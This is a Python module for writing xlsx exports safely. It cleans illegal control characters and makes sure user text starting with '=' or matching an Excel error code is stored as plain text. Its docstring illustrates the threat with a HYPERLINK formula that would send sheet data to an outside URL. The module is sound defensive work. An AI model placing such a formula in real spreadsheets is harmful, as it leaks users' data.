"""Writing xlsx files safely: user text stays text, and a file appears whole or not at all.

openpyxl turns a string starting with `=` into a formula cell (`<f>`, evaluated by Excel: a title such
as `=HYPERLINK("http://…?d="&A1)` would send the sheet's data away) and an Excel error code such as
`#N/A` into an error cell; it refuses a whole workbook over one control character. Every export writes
its strings through `text_value` / `as_text`, and saves with `files.save_atomically`; the event export
writes with xlsxwriter's `write_string`, which stores any text as a string cell.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from datetime import date, datetime
from typing import Any

# openpyxl's own ILLEGAL_CHARACTERS_RE and ERROR_CODES (openpyxl.cell.cell), copied so this module loads
# without openpyxl (imported only when a file is written); tests/test_export_safety.py checks they agree.
ILLEGAL_CHARACTERS_RE = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")
ERROR_CODES = ("#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A")


def text_value(value: Any) -> Any:
    """A string without what a worksheet cannot hold (rows saved before input was cleaned may still
    have control characters); anything else unchanged."""
    if isinstance(value, str) and ILLEGAL_CHARACTERS_RE.search(value):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def is_formula_like(value: Any) -> bool:
    """Would openpyxl store this string as something other than text (a formula or an error)?"""
    return isinstance(value, str) and ((len(value) > 1 and value[0] == "=") or value in ERROR_CODES)


def append_as_text(sheet: Any, values: Iterable[Any]) -> None:
    """`sheet.append` for a normal worksheet, with every string stored as a string cell."""
    sheet.append([text_value(v) for v in values])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str) and cell.data_type != "s":
            cell.data_type = "s"


def cell_text(value: Any) -> str:
    """A read cell as the text a person typed: whole numbers without ".0", dates as YYYY-MM-DD."""
    if value is None:
        return ""
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    if isinstance(value, datetime):
        return value.date().isoformat()
    if isinstance(value, date):
        return value.isoformat()
    return str(value).strip()
